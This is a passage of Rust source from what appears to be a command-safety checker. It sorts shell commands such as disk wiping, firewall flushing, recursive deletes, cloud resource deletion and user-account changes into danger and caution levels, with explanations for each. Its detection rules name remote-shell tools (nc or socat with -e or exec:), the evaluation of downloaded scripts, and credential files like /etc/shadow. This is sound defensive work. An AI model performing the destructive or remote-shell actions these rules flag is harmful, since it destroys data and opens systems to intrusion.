            acc.caution(format!("{name} modifies or renames files"))
        }
        "svn" | "hg" => {
            if ctx.args.first().is_some_and(|a| {
                matches!(
                    *a,
                    "revert"
                        | "rm"
                        | "delete"
                        | "del"
                        | "remove"
                        | "commit"
                        | "ci"
                        | "push"
                        | "strip"
                        | "purge"
                        | "update"
                        | "up"
                        | "merge"
                )
            }) {
                acc.caution(format!("{name} changes the working copy or repository"));
            }
        }
        "vagrant" => {
            if ctx.args.first().is_some_and(|a| {
                matches!(
                    *a,
                    "destroy" | "halt" | "suspend" | "reload" | "provision" | "up" | "box"
                )
            }) {
                acc.caution("vagrant changes VM state");
            }
        }
        "ssh-keygen" if ctx.has_flag('p', &[]) || ctx.has_flag('R', &[]) => {
            acc.caution("changes an existing SSH key or known_hosts")
        }
        "wipefs" => {
            // Without -a/-o wipefs only lists signatures.
            if ctx.has_flag('a', &["--all"]) || ctx.has_flag('o', &["--offset"]) {
                acc.danger("wipefs erases filesystem signatures (the data becomes unreachable)");
            }
        }
        "blkdiscard" => acc.danger("blkdiscard discards every block on the device"),
        "badblocks" if ctx.has_flag('w', &[]) => {
            acc.danger("badblocks -w overwrites the whole device")
        }
        "hdparm"
            if ctx.args.iter().any(|a| {
                a.starts_with("--security-erase")
                    || a.starts_with("--trim-sector")
                    || *a == "--fwdownload"
            }) =>
        {
            acc.danger("hdparm erase/firmware operation on a disk")
        }
        "nvme"
            if ctx
                .args
                .first()
                .is_some_and(|a| matches!(*a, "format" | "sanitize")) =>
        {
            acc.danger("nvme format/sanitize erases the drive")
        }
        "flashrom" if ctx.has_flag('w', &["--write"]) || ctx.has_flag('E', &["--erase"]) => {
            acc.danger("flashrom rewrites the firmware chip")
        }
        "fdisk" | "gdisk" | "cfdisk" | "cgdisk" => analyze_fdisk(ctx, acc),
        "sfdisk" => {
            if ctx.has_flag('l', &["--list"])
                || ctx.has_flag('d', &["--dump"])
                || ctx.has_flag('s', &["--show-size"])
                || ctx.has_flag('V', &["--verify"])
                || ctx.args.is_empty()
            {
                // read-only
            } else {
                acc.danger("sfdisk rewrites the partition table");
            }
        }
        "parted" => analyze_parted(ctx, acc),
        "sgdisk" => {
            let writes = [
                "-Z",
                "--zap-all",
                "-z",
                "--zap",
                "-o",
                "--clear",
                "-n",
                "--new",
                "-d",
                "--delete",
                "-g",
                "--mbrtogpt",
                "-t",
                "--typecode",
                "-R",
                "--replicate",
                "-G",
                "-c",
                "--change-name",
                "-x",
                "-s",
                "--sort",
                "-e",
                "-l",
                "--load-backup",
            ];
            if ctx.args.iter().any(|a| {
                writes.contains(&a.split('=').next().unwrap_or(a))
                    || (a.starts_with("-n") || a.starts_with("-d") || a.starts_with("-t"))
                        && a.len() > 2
            }) {
                acc.danger("sgdisk modifies or wipes the partition table");
            }
        }
        "cryptsetup" => {
            let sub = ctx
                .positionals()
                .first()
                .map(|w| w.text.to_ascii_lowercase())
                .unwrap_or_default();
            match sub.as_str() {
                "luksformat" | "erase" | "luckserase" | "lukserase" | "reencrypt" => {
                    acc.danger("cryptsetup re-formats or erases the encrypted volume")
                }
                "lukskillslot" | "luksremovekey" => {
                    acc.danger("removes a LUKS key slot (data can become unrecoverable)")
                }
                "status" | "luksdump" | "isluks" | "" => {}
                _ => acc.caution("changes encrypted volume state"),
            }
        }
        "zpool" => {
            let sub = ctx.args.first().copied().unwrap_or("");
            match sub {
                "destroy" | "labelclear" => acc.danger(format!("zpool {sub} destroys the pool")),
                "create" | "add" | "attach" | "detach" | "remove" | "replace" | "offline"
                | "export" | "import" | "scrub" | "upgrade" | "clear" | "set" => {
                    acc.caution(format!("zpool {sub} changes storage pool state"))
                }
                _ => {}
            }
        }
        "zfs" => {
            let sub = ctx.args.first().copied().unwrap_or("");
            match sub {
                "destroy" => {
                    if has_flag(&ctx.args[1..], 'r', &[])
                        || has_flag(&ctx.args[1..], 'R', &[])
                        || !ctx.args.iter().skip(1).any(|a| a.contains('@'))
                    {
                        acc.danger("zfs destroy deletes a dataset and its data");
                    } else {
                        acc.caution("zfs destroy of a snapshot");
                    }
                }
                "rollback" => acc.caution("zfs rollback discards changes after the snapshot"),
                "create" | "snapshot" | "set" | "mount" | "umount" | "unmount" | "receive"
                | "recv" | "rename" | "promote" | "send" | "inherit" => {
                    if sub != "send"
                        && sub != "snapshot"
                        && sub != "create"
                        && !(sub == "mount" && ctx.args.len() == 1)
                    {
                        acc.caution(format!("zfs {sub} changes datasets"));
                    }
                }
                _ => {}
            }
        }
        "lvremove" | "vgremove" | "pvremove" => {
            acc.danger(format!("{name} deletes LVM volumes and their data"))
        }
        "lvreduce" | "lvresize" => acc.danger(format!(
            "{name} can truncate a volume (data loss if the filesystem is larger)"
        )),
        "mdadm" => {
            if ctx
                .args
                .iter()
                .any(|a| matches!(*a, "--zero-superblock" | "--create" | "-C"))
            {
                acc.danger("mdadm --create/--zero-superblock overwrites RAID metadata");
            } else if ctx.args.iter().any(|a| {
                matches!(
                    *a,
                    "--detail" | "-D" | "--examine" | "-E" | "--query" | "-Q"
                )
            }) && !ctx
                .args
                .iter()
                .any(|a| matches!(*a, "--remove" | "--fail" | "--stop" | "-r" | "-f" | "-S"))
            {
            } else {
                acc.caution("changes RAID array state");
            }
        }
        "chmod" | "chown" | "chgrp" | "setfacl" => analyze_chmod(ctx, acc),
        "mv" => analyze_mv(ctx, acc),
        "cp" | "install" | "pv" | "rsync" | "tar" | "ln" | "truncate" | "tee" | "sed" | "cat" => {
            analyze_file_writers(ctx, acc)
        }
        "kill" => analyze_kill(ctx, acc),
        "killall5" => acc.danger("killall5 signals every process on the system"),
        "pkill" | "killall" | "skill" | "slay" => analyze_pkill(ctx, acc),
        "shutdown" => {
            if ctx.has_flag('c', &[]) || ctx.has_flag('k', &[]) {
            } else if ctx.has_flag('r', &["--reboot"]) {
                acc.caution("reboots the machine");
            } else {
                acc.danger("powers off the machine (a remote host stays down until someone switches it on)");
            }
        }
        "poweroff" | "halt" => {
            if ctx.has_flag('r', &["--reboot"]) {
                acc.caution("reboots the machine")
            } else {
                acc.danger(format!(
                    "{name} switches the machine off (a remote host stays down)"
                ))
            }
        }
        "reboot" => acc.caution("reboots the machine"),
        "init" | "telinit" => match ctx.args.first().copied() {
            Some("0") => acc.danger("init 0 powers off the machine"),
            Some("6") => acc.caution("init 6 reboots the machine"),
            Some("1") | Some("s") | Some("S") => {
                acc.danger("switches to single-user mode (network and logins go away)")
            }
            Some(_) => acc.caution("changes the runlevel"),
            None => {}
        },
        "systemctl" => analyze_systemctl(ctx, acc),
        "service" => analyze_service(ctx, acc),
        "iptables" | "ip6tables" | "iptables-legacy" | "iptables-nft" => analyze_iptables(ctx, acc),
        "nft" => {
            let j = ctx.args.join(" ");
            if j.contains("flush ruleset") {
                acc.danger("nft flush ruleset removes every firewall rule");
            } else if ctx
                .args
                .iter()
                .any(|a| matches!(*a, "list" | "-a" | "describe" | "monitor"))
                && !ctx.args.iter().any(|a| {
                    matches!(
                        *a,
                        "add" | "delete" | "flush" | "insert" | "replace" | "create" | "destroy"
                    )
                })
            {
            } else if !ctx.args.is_empty() {
                acc.caution("changes nftables firewall rules");
            }
        }
        "ufw" => {
            let sub = ctx
                .positionals()
                .first()
                .map(|w| w.text.clone())
                .unwrap_or_default();
            match sub.as_str() {
                "disable" => acc.danger("ufw disable switches the firewall off"),
                "reset" => {
                    acc.danger("ufw reset deletes all firewall rules and disables the firewall")
                }
                "status" | "app" | "show" | "version" | "" => {}
                "enable" => acc.caution("enables the firewall (check that SSH is allowed first)"),
                _ => acc.caution("changes firewall rules"),
            }
        }
        "firewall-cmd" => {
            if ctx.args.iter().any(|a| a.starts_with("--panic-on")) {
                acc.danger("firewalld panic mode drops all traffic");
            } else if ctx.args.iter().all(|a| {
                a.starts_with("--list")
                    || a.starts_with("--get")
                    || a.starts_with("--query")
                    || a.starts_with("--zone")
                    || *a == "--state"
            }) {
            } else {
                acc.caution("changes firewall rules");
            }
        }
        "crontab" => {
            if ctx.has_flag('r', &[]) {
                acc.danger("crontab -r deletes all of the user's cron jobs without confirmation");
            } else if ctx.has_flag('l', &[]) {
            } else {
                acc.caution("edits or replaces the crontab");
            }
        }
        "userdel" | "deluser" => acc.danger(format!(
            "{name} deletes a user account{}",
            if ctx.has_flag('r', &["--remove", "--remove-home", "--remove-all-files"]) {
                " and its home directory"
            } else {
                ""
            }
        )),
        "groupdel" | "delgroup" | "useradd" | "adduser" | "usermod" | "groupadd" | "groupmod"
        | "passwd" | "chpasswd" | "visudo" => {
            if name == "passwd"
                && ctx.has_flag('d', &["--delete"])
                && ctx.positionals().iter().any(|w| w.text == "root")
            {
                acc.danger("removes the root password");
            } else if name == "passwd" && ctx.has_flag('S', &["--status"]) {
            } else {
                acc.caution("changes user accounts or passwords");
            }
        }
        "history" => {
            if ctx.has_flag('c', &[]) {
                acc.caution("clears the shell history");
            }
        }
        "git" => analyze_git(ctx, acc),
        "docker" | "podman" | "nerdctl" => analyze_docker(ctx, acc),
        "docker-compose" | "podman-compose" => analyze_compose(ctx.args, acc),
        "kubectl" | "oc" => analyze_kubectl(ctx, acc),
        "helm" => {
            if matches!(
                ctx.args.first().copied(),
                Some("uninstall" | "delete" | "rollback" | "upgrade" | "install")
            ) {
                acc.caution("changes Helm releases");
            }
        }
        "terraform" | "tofu" => match ctx.args.first().copied() {
            Some("destroy") => acc.danger("terraform destroy deletes all managed infrastructure"),
            Some("apply") => {
                if ctx.args.contains(&"-destroy") {
                    acc.danger("terraform apply -destroy deletes all managed infrastructure");
                } else {
                    acc.caution("applies infrastructure changes");
                }
            }
            Some("import" | "taint" | "untaint" | "state" | "force-unlock") => {
                acc.caution("changes terraform state")
            }
            _ => {}
        },
        "aws" => {
            let j = ctx.args.join(" ");
            if (j.starts_with("s3 rm") && ctx.args.contains(&"--recursive"))
                || (j.starts_with("s3 rb") && ctx.args.contains(&"--force"))
            {
                acc.danger("deletes an S3 bucket's contents");
            } else if j.contains(" delete")
                || j.starts_with("s3 rm")
                || j.starts_with("s3 rb")
                || j.contains("terminate-instances")
            {
                acc.caution("deletes cloud resources");
            } else if j.starts_with("s3 sync") && ctx.args.contains(&"--delete") {
                acc.caution("s3 sync --delete removes files not present in the source");
            } else if j.starts_with("s3 cp") || j.starts_with("s3 mv") || j.starts_with("s3 sync") {
                acc.caution("uploads or moves objects in S3 (overwrites existing keys)");
            }
        }
        "gsutil" | "gcloud" | "az" => {
            if ctx
                .args
                .iter()
                .any(|a| matches!(*a, "rm" | "delete" | "rb"))
            {
                if ctx.has_flag('r', &["--recursive"])
                    || ctx.args.contains(&"-m") && ctx.has_flag('r', &[])
                {
                    acc.danger("recursively deletes cloud storage");
                } else {
                    acc.caution("deletes cloud resources");
                }
            }
        }
        "psql" | "mysql" | "mariadb" | "sqlite3" | "sqlcmd" | "clickhouse-client" | "cockroach"
        | "mongo" | "mongosh" | "redis-cli" | "cqlsh" => analyze_sql_client(ctx, acc),
        "mysqladmin" => {
            if ctx.args.iter().any(|a| matches!(*a, "drop")) {
                acc.danger("mysqladmin drop deletes a database");
            } else if ctx
                .args
                .iter()
                .any(|a| matches!(*a, "shutdown" | "flush-privileges" | "password" | "kill"))
            {
                acc.caution("changes the MySQL server state");
            }
        }
        "dropdb" => acc.danger("dropdb deletes a PostgreSQL database"),
        "dropuser" | "createdb" | "createuser" | "pg_restore" => {
            if name == "pg_restore" && ctx.has_flag('c', &["--clean"]) {
                acc.caution("pg_restore --clean drops objects before recreating them");
            } else if name != "createdb" {
                acc.caution("changes database users or contents");
            }
        }
        "eval" => {
            let script: Vec<&str> = ctx.args.to_vec();
            if ctx
                .eff
                .args
                .iter()
                .any(|w| w.subs.iter().any(|s| script_downloads(s)))
            {
                acc.danger("evaluates a script downloaded from the network");
            }
            assess_script(&script.join(" "), ctx.depth + 1, acc);
        }
        "source" | "." => {
            if ctx
                .eff
                .args
                .iter()
                .any(|w| w.procsub && w.subs.iter().any(|s| script_downloads(s)))
            {
                acc.danger("sources a script downloaded from the network");
            }
        }
        "su" => {
            if let Some(i) = ctx
                .args
                .iter()
                .position(|a| *a == "-c" || *a == "--command")
            {
                if let Some(s) = ctx.args.get(i + 1) {
                    assess_script(s, ctx.depth + 1, acc);
                }
            }
        }
        "ssh" => analyze_ssh(ctx, acc),
        "nc" | "ncat" | "netcat" | "socat" => {
            if ctx.args.iter().any(|a| {
                *a == "-e"
                    || *a == "-c"
                    || a.starts_with("exec:")
                    || a.starts_with("EXEC:")
                    || a.starts_with("SYSTEM:")
            }) && ctx.args.iter().any(|a| {
                is_shell(basename(
                    a.split_whitespace()
                        .next()
                        .unwrap_or(a)
                        .trim_start_matches("exec:")
                        .trim_start_matches("EXEC:"),
                ))
            }) {
                acc.danger("exposes a shell over the network (remote shell)");
            }
        }
        "chattr" => acc.caution("changes file attributes"),
        "sysctl" => {
            if ctx.has_flag('w', &["--write"])
                || ctx.has_flag('p', &["--load"])
                || ctx.args.iter().any(|a| a.contains('='))
            {
                acc.caution("changes kernel parameters");
            }
        }
        "mount" | "umount" | "swapoff" | "swapon" | "losetup" | "modprobe" | "rmmod" | "insmod" => {
            // `mount` alone or `mount -l` only lists.
            let lists_only = name == "mount"
                && ctx
                    .args
                    .iter()
                    .all(|a| *a == "-l" || *a == "-t" || a.starts_with("ext"));
            if !ctx.args.is_empty() && !lists_only {
                acc.caution(format!(
                    "{name} changes mounted filesystems or kernel modules"
                ));
            }
        }
        "ip" | "ifconfig" | "ifdown" | "ifup" | "route" | "nmcli" | "brctl" | "iwconfig"
        | "dhclient" | "netplan" => analyze_net(ctx, acc),
        "apt" | "apt-get" | "aptitude" | "dnf" | "yum" | "zypper" | "pacman" | "apk" | "brew"
        | "snap" | "flatpak" | "pip" | "pip3" | "pipx" | "npm" | "pnpm" | "yarn" | "gem"
        | "cargo" | "dpkg" | "rpm" | "port" | "emerge" | "nix-env" | "urpmi" | "urpme"
        | "yaourt" | "yay" | "paru" | "conda" | "mamba" | "uv" | "go" | "bower" | "composer" => {
            analyze_pkg(ctx, acc)
        }
        "update-grub" | "grub-install" | "grub-mkconfig" | "update-initramfs" | "dracut"
        | "efibootmgr" | "bootctl" => acc.caution("changes the boot configuration"),
        "chsh"
        | "timedatectl"
        | "hostnamectl"
        | "localectl"
        | "loginctl"
        | "update-alternatives"
        | "ldconfig"
        | "setenforce"
        | "aa-disable"
        | "usermod." => {
            if !ctx.args.is_empty()
                && !matches!(
                    ctx.args.first().copied(),
                    Some("status" | "list" | "show" | "--display" | "list-sessions")
                )
            {
                acc.caution("changes system configuration");
            }
        }
        "perl" | "ruby" | "python" | "python3" | "node" => {}
        "mysqldump" | "pg_dump" => {}
        "journalctl" => {
            if ctx
                .args
                .iter()
                .any(|a| a.starts_with("--vacuum") || *a == "--rotate" || *a == "--flush")
            {
                acc.caution("deletes or rotates journal logs");
            }
        }
        "logrotate" => acc.caution("rotates (and may delete) logs"),
        "renice" => acc.caution("changes process priority"),
        "chroot" => {
            // chroot DIR CMD...
            let pos = ctx.positionals();
            if pos.len() > 1 {
                let rest: Vec<&str> = pos[1..].iter().map(|w| w.text.as_str()).collect();
                assess_script(&rest.join(" "), ctx.depth + 1, acc);
            }
        }
        _ => {}
    }

    // A command that writes to a device through its own arguments.
    if matches!(name, "cat" | "cp" | "pv" | "tee") {
        // handled in analyze_file_writers
    }
}

// ---------------------------------------------------------------------------
// Paths
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, PartialEq, Eq)]
enum PathClass {
    /// `/`, `/*`.
    Root,
    /// A top-level directory or glob right under `/`.
    TopLevel(String),
    /// A directory vital to the OS below the top level (`/usr/lib`).
    SystemDir(String),
    /// The home directory itself or all of it (`~`, `$HOME/*`, `/home/alice`).
    Home(String),
    /// Precious content in a home directory (`~/.ssh`, `~/Documents`).
    HomeVital(String),
    /// The current or parent directory or everything in it (`.`, `*`, `../*`).
    Cwd(String),
    /// An unguarded variable followed by `/`: empty variable means `/`.
    EmptyVarRoot(String),
    /// Any other path: ordinary.
    Other,
}

impl PathClass {
    /// Level of recursively deleting this path.
    fn level(&self, _recursive: bool) -> RiskLevel {
        match self {
            PathClass::Other => RiskLevel::Caution,
            _ => RiskLevel::Danger,
        }
    }

    fn describe(&self) -> String {
        match self {
            PathClass::Root => "the root filesystem (/)".into(),
            PathClass::TopLevel(p) => format!("the top-level directory {p}"),
            PathClass::SystemDir(p) => format!("the system directory {p}"),
            PathClass::Home(p) => format!("the home directory ({p})"),
            PathClass::HomeVital(p) => format!("{p} in the home directory"),
            PathClass::Cwd(p) => format!("the whole current/parent directory ({p})"),
            PathClass::EmptyVarRoot(p) => {
                format!("{p} (if the variable is empty or unset this is /)")
            }
            PathClass::Other => "files".into(),
        }
    }
}

/// A glob component that matches (nearly) everything: `*`, `.*`, `*.*`, `**`.
fn is_broad_glob(comp: &str) -> bool {
    !comp.is_empty()
        && comp.contains(['*', '?'])
        && comp
            .chars()
            .all(|c| matches!(c, '*' | '?' | '.' | '[' | ']' | '!' | '^'))
}

const HOME_VITAL: &[&str] = &[
    ".ssh",
    ".gnupg",
    ".config",
    ".local",
    "Documents",
    "Desktop",
    "Pictures",
    "Photos",
    "Dokumente",
    "Bilder",
    "Schreibtisch",
    ".password-store",
    ".mozilla",
    "Music",
    "Videos",
];

const HOME_VARS: &[&str] = &["$HOME", "${HOME}", "~", "$USERPROFILE", "${USERPROFILE}"];

/// Classifies a path for recursive destructive operations; `None` for words
/// that are not path-like at all (empty).
fn classify(raw: &str) -> Option<PathClass> {
    let t = raw.trim();
    if t.is_empty() {
        return None;
    }
    // Home directory forms.
    for hv in HOME_VARS {
        if let Some(rest) = t.strip_prefix(hv) {
            if rest.is_empty() || rest.starts_with('/') {
                return Some(classify_home_rest(raw, rest));
            }
        }
    }
    if let Some(rest) = t.strip_prefix('~') {
        // ~alice or ~alice/…
        let (user, rest) = rest
            .split_once('/')
            .map(|(u, r)| (u, format!("/{r}")))
            .unwrap_or((rest, String::new()));
        if user
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-' || c == '.')
        {
            return Some(classify_home_rest(raw, &rest));
        }
    }
    if let Some(rest) = t
        .strip_prefix("$PWD")
        .or_else(|| t.strip_prefix("${PWD}"))
        .or_else(|| t.strip_prefix("$(pwd)"))
    {
        if rest.is_empty() || rest == "/" || rest.strip_prefix('/').is_some_and(is_broad_glob) {
            return Some(PathClass::Cwd(raw.to_string()));
        }
        return Some(PathClass::Other);
    }
    // Unguarded variable at the start, then "/" and nothing specific.
    if t.starts_with('$') {
        let var_end = var_prefix_len(t);
        let var = &t[..var_end];
        let rest = &t[var_end..];
        let guarded = var.contains(":?") || var.contains('?');
        if !guarded && var_end > 1 {
            let r = rest.trim_end_matches('/');
            if rest.starts_with('/')
                && (r.is_empty() || r.strip_prefix('/').is_some_and(is_broad_glob))
            {
                return Some(PathClass::EmptyVarRoot(raw.to_string()));
            }
        }
        return Some(PathClass::Other);
    }
    if t.starts_with('/') {
        return Some(classify_abs(raw, t));
    }
    // Relative: only `.`/`..` components, optionally ending in a broad glob.
    let comps: Vec<&str> = t.split('/').filter(|c| !c.is_empty()).collect();
    if comps.is_empty() {
        return Some(PathClass::Other);
    }
    let last = comps.len() - 1;
    let all_dots = comps
        .iter()
        .enumerate()
        .all(|(i, c)| *c == "." || *c == ".." || (i == last && is_broad_glob(c)));
    if all_dots {
        return Some(PathClass::Cwd(raw.to_string()));
    }
    Some(PathClass::Other)
}

fn var_prefix_len(t: &str) -> usize {
    let b = t.as_bytes();
    if b.len() < 2 {
        return b.len();
    }
    if b[1] == b'{' {
        return t.find('}').map(|i| i + 1).unwrap_or(t.len());
    }
    if b[1] == b'(' {
        return t.find(')').map(|i| i + 1).unwrap_or(t.len());
    }
    1 + t[1..]
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .unwrap_or(t.len() - 1)
}

fn classify_home_rest(raw: &str, rest: &str) -> PathClass {
    let comps: Vec<&str> = rest
        .split('/')
        .filter(|c| !c.is_empty() && *c != ".")
        .collect();
    match comps.as_slice() {
        [] => PathClass::Home(raw.to_string()),
        [c] if is_broad_glob(c) => PathClass::Home(raw.to_string()),
        [c] | [c, _]
            if HOME_VITAL.contains(c)
                && (comps.len() == 1 || comps.get(1).is_some_and(|x| is_broad_glob(x))) =>
        {
            PathClass::HomeVital(raw.to_string())
        }
        _ => PathClass::Other,
    }
}

const TOP_SAFE: &[&str] = &["tmp"];
/// Second-level directories that are vital: `/usr/lib`, `/var/lib`, …
fn vital_second(top: &str, sub: &str) -> bool {
    match top {
        "usr" => matches!(
            sub,
            "bin"
                | "sbin"
                | "lib"
                | "lib32"
                | "lib64"
                | "libexec"
                | "share"
                | "include"
                | "local"
                | "src"
        ),
        "var" => matches!(
            sub,
            "lib" | "log" | "spool" | "mail" | "www" | "backups" | "opt" | "db"
        ),
        "etc" => matches!(
            sub,
            "ssh"
                | "pam.d"
                | "systemd"
                | "security"
                | "sudoers.d"
                | "network"
                | "netplan"
                | "apt"
                | "default"
                | "init.d"
                | "ssl"
                | "alternatives"
        ),
        "bin" | "sbin" | "lib" | "lib32" | "lib64" | "libx32" | "boot" => true,
        "dev" => sub != "shm",
        "home" | "Users" => true,
        "System" | "Library" => true,
        _ => false,
    }
}

fn classify_abs(raw: &str, t: &str) -> PathClass {
    // Resolve `.` and `..`, collapse slashes.
    let mut comps: Vec<&str> = Vec::new();
    for c in t.split('/') {
        match c {
            "" | "." => {}
            ".." => {
                comps.pop();
            }
            _ => comps.push(c),
        }
    }
    // A trailing broad glob means "everything in the parent".
    let mut n = comps.len();
    if n > 0 && is_broad_glob(comps[n - 1]) {
        n -= 1;
    }
    let comps = &comps[..n];
    match comps {
        [] => PathClass::Root,
        [top] => {
            if top.contains(['*', '?', '[']) {
                PathClass::TopLevel(raw.to_string())
            } else if TOP_SAFE.contains(top) {
                PathClass::Other
            } else if *top == "root" {
                PathClass::Home(raw.to_string())
            } else {
                PathClass::TopLevel(raw.to_string())
            }
        }
        [top, sub] => {
            if *top == "home" || *top == "Users" {
                if sub.contains(['*', '?']) {
                    PathClass::TopLevel(raw.to_string())
                } else {
                    PathClass::Home(raw.to_string())
                }
            } else if *top == "root" && HOME_VITAL.contains(sub) {
                PathClass::HomeVital(raw.to_string())
            } else if vital_second(top, sub)
                || (sub.contains('*')
                    && !TOP_SAFE.contains(top)
                    && *top != "opt"
                    && *top != "srv"
                    && *top != "mnt"
                    && *top != "media")
            {
                PathClass::SystemDir(raw.to_string())
            } else {
                PathClass::Other
            }
        }
        [top, _user, sub, ..]
            if (*top == "home" || *top == "Users")
                && comps.len() == 3
                && HOME_VITAL.contains(sub) =>
        {
            PathClass::HomeVital(raw.to_string())
        }
        _ => PathClass::Other,
    }
}

const CRITICAL_FILES: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/group",
    "/etc/gshadow",
    "/etc/sudoers",
    "/etc/fstab",
    "/etc/hosts",
    "/etc/crypttab",
    "/etc/ssh/sshd_config",
    "/etc/pam.d/common-auth",
    "/etc/pam.d/sudo",
    "/etc/nsswitch.conf",
    "/etc/inittab",
    "/etc/ld.so.conf",
    "/etc/ld.so.preload",
    "/boot/grub/grub.cfg",
    "/etc/default/grub",
    "/etc/login.defs",
];

fn is_critical_file(p: &str) -> bool {
    let p = p.trim_end_matches('/');
    if CRITICAL_FILES.contains(&p) {
        return true;
    }
    // Kernels, initrds and core binaries.
    let dir = p.rsplit_once('/').map(|(d, _)| d).unwrap_or("");
    let file = basename(p);
    (dir == "/boot"
        && (file.starts_with("vmlinuz")
            || file.starts_with("initrd")
            || file.starts_with("initramfs")))
        || (matches!(
            dir,
            "/bin"
                | "/sbin"
                | "/usr/bin"
                | "/usr/sbin"
                | "/lib"
                | "/lib64"
                | "/usr/lib"
                | "/usr/lib64"
                | "/lib/x86_64-linux-gnu"
                | "/usr/lib/x86_64-linux-gnu"
        ) && !file.is_empty())
}

/// Pseudo-devices that are fine to read from or write to.
fn is_harmless_dev(p: &str) -> bool {
    matches!(
        p,
        "/dev/null"
            | "/dev/zero"
            | "/dev/stdout"
            | "/dev/stderr"
            | "/dev/stdin"
            | "/dev/tty"
            | "/dev/full"
            | "/dev/random"
            | "/dev/urandom"
            | "/dev/console"
            | "/dev/ptmx"
            | "/dev/dsp"
    ) || p.starts_with("/dev/tty")
        || p.starts_with("/dev/pts/")
        || p.starts_with("/dev/fd/")
        || p.starts_with("/dev/shm/")
        || p.starts_with("/dev/tcp/")
        || p.starts_with("/dev/udp/")
        || p.starts_with("/dev/cu.")
        || p.starts_with("/dev/video")
        || p.starts_with("/dev/snd")
        || p.starts_with("/dev/input")
        || p.starts_with("/dev/usb")
        || p.starts_with("/dev/ttyUSB")
}

/// A block device, partition or raw memory: writing there destroys data.
fn is_device(p: &str) -> bool {
    let p = p.trim_matches(|c| c == '"' || c == '\'');
    p.starts_with("/dev/") && !is_harmless_dev(p) && p.len() > 5
        || p.starts_with("\\\\.\\PhysicalDrive")
}

// ---------------------------------------------------------------------------
// Individual commands
// ---------------------------------------------------------------------------

fn analyze_rm(ctx: &Ctx, acc: &mut Acc) {
    let recursive = ctx.has_flag('r', &["--recursive"]) || ctx.has_flag('R', &[]);
    if ctx.args.contains(&"--no-preserve-root") {
        acc.danger("rm --no-preserve-root disables the safeguard against deleting /");
    }
    let targets = ctx.positionals();
    let mut worst = RiskLevel::Safe;
    for w in &targets {
        // rm -rf $(find / …) and friends.
        if let Some(sub) = w.subs.first() {
            if let Some(c) = first_cmd(sub) {
                if let Some(e) = unwrap_cmd(&c.words) {
                    if e.name == "find" {
                        if let Some(start) = positionals(e.args).first() {
                            if find_start_is_broad(&start.text) {
                                acc.danger(format!(
                                    "deletes files found under {} (system-wide)",
                                    start.text
                                ));
                                worst = RiskLevel::Danger;
                            }
                        }
                    }
                }
            }
        }
        let text = w.text.as_str();
        if recursive {
            if let Some(class) = classify(text) {
                if class != PathClass::Other {
                    acc.danger(format!("recursive delete of {}", class.describe()));
                    worst = RiskLevel::Danger;
                    continue;
                }
                if is_device(text) {
                    acc.danger(format!("deletes device nodes under {text}"));
                    worst = RiskLevel::Danger;
                    continue;
                }
                if text.trim_end_matches('/').ends_with(".git") && !text.contains('*') {
                    acc.caution("deletes the repository's git history (.git)");
                }
            }
        } else if is_critical_file(text) {
            acc.danger(format!("deletes the critical system file {text}"));
            worst = RiskLevel::Danger;
            continue;
        } else if let Some(PathClass::Root | PathClass::TopLevel(_) | PathClass::SystemDir(_)) =
            classify(text)
        {
            if w.glob {
                acc.danger(format!("deletes system files matching {text}"));
                worst = RiskLevel::Danger;
                continue;
            }
        }
    }
    if worst < RiskLevel::Danger {
        if targets.is_empty() && ctx.eff.via_xargs {
            if let Some(start) = upstream_find_start(ctx) {
                if find_start_is_broad(&start) {
                    acc.danger(format!("deletes every file that find lists under {start}"));
                    return;
                }
            }
            acc.caution("deletes the files named on standard input");
            return;
        }
        if recursive {
            acc.caution("deletes files and directories recursively");
        } else {
            acc.caution("deletes files");
        }
    }
}

fn upstream_find_start(ctx: &Ctx) -> Option<String> {
    for c in ctx.upstream.iter().rev() {
        if let Some(e) = unwrap_cmd(&c.words) {
            if e.name == "find" {
                return Some(
                    positionals(e.args)
                        .first()
                        .map(|w| w.text.clone())
                        .unwrap_or_else(|| ".".into()),
                );
            }
        }
    }
    None
}

/// A find start point whose filtered matches are still system-wide.
fn find_start_is_broad(p: &str) -> bool {
    matches!(
        classify(p),
        Some(
            PathClass::Root
                | PathClass::TopLevel(_)
                | PathClass::SystemDir(_)
                | PathClass::EmptyVarRoot(_)
        )
    )
}

/// find's tests that narrow which files are matched.
fn is_find_filter(a: &str) -> bool {
    matches!(
        a,
        "-name"
            | "-iname"
            | "-path"
            | "-ipath"
            | "-regex"
            | "-iregex"
            | "-mtime"
            | "-mmin"
            | "-atime"
            | "-amin"
            | "-ctime"
            | "-cmin"
            | "-size"
            | "-empty"
            | "-user"
            | "-group"
            | "-newer"
            | "-perm"
            | "-wholename"
            | "-iwholename"
            | "-links"
            | "-inum"
            | "-samefile"
            | "-uid"
            | "-gid"
            | "-nouser"
            | "-nogroup"
            | "-newermt"
            | "-lname"
            | "-used"
    )
}

fn analyze_find(ctx: &Ctx, acc: &mut Acc) {
    let args = ctx.eff.args;
    // Start points are the leading words that are not expressions.
    let starts: Vec<&str> = args
        .iter()
        .map(|w| w.text.as_str())
        .take_while(|a| !(a.starts_with('-') || *a == "(" || *a == "!" || *a == "\\("))
        .collect();
    let starts = if starts.is_empty() { vec!["."] } else { starts };
    let filtered = args.iter().any(|w| is_find_filter(&w.text));
    let deletes = args.iter().any(|w| w.text == "-delete");
    // With filters only a start at (or right below) / is system-wide; without
    // filters any vital directory is wiped wholesale.
    let broad_start = starts.iter().any(|s| {
        if filtered {
            matches!(
                classify(s),
                Some(PathClass::Root | PathClass::TopLevel(_) | PathClass::EmptyVarRoot(_))
            )
        } else {
            find_start_is_broad(s)
        }
    });
    let home_start = starts.iter().any(|s| {
        matches!(
            classify(s),
            Some(PathClass::Home(_) | PathClass::HomeVital(_))
        )
    });
    let whole_start = starts
        .iter()
        .find(|s| classify(s).is_some_and(|c| c != PathClass::Other))
        .copied();

    let mut judge_destructive = |what: &str, acc: &mut Acc| {
        if broad_start {
            acc.danger(format!(
                "find {what} across {} (system-wide)",
                starts.join(" ")
            ));
        } else if let (false, Some(s)) = (filtered, whole_start) {
            acc.danger(format!("find {what} every file under {s}"));
        } else if home_start && !filtered {
            acc.danger(format!("find {what} in the whole home directory"));
        } else {
            acc.caution(format!("find {what} the matching files"));
        }
    };
    if deletes {
        judge_destructive("-delete removes", acc);
    }
    // -exec / -execdir / -ok: the command up to `;` or `+`.
